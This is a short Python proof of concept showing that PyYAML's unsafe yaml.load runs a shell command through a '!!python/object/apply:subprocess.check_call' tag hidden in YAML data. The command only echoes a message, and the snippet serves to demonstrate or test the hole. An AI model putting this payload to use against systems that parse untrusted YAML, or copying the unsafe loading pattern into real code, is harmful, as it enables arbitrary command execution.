import yaml

document = '!!python/object/apply:subprocess.check_call [["sh", "-c", "echo VULNERABLE: yaml.load ran a command via subprocess"]]'
yaml.load(document)
